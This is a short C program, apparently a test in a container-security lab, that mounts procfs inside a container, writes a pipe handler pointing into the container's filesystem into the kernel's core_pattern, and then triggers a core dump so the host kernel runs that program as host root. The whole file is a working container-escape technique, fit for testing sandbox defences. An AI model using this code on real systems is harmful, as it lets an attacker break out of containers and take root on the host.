/* Names a program of the container in core_pattern and crashes: the kernel runs it as root of the host. */
#include "common.h"
#include <sys/mount.h>

int main(void)
{
	static const char pattern[] = "|/proc/%P/root/umh_mark";
	lab_place_helper();
	mkdir("/lab_proc", 0755);
	if (mount("proc", "/lab_proc", "proc", 0, NULL))
		lab_die("mount proc");
	int fd = (int)lab_violate4("open", SYS_openat, AT_FDCWD, "/lab_proc/sys/kernel/core_pattern", O_WRONLY, 0);
	if (write(fd, pattern, sizeof(pattern) - 1) < 0)
		lab_die("write core_pattern");
	lab_dump_core();
	return 0;
}
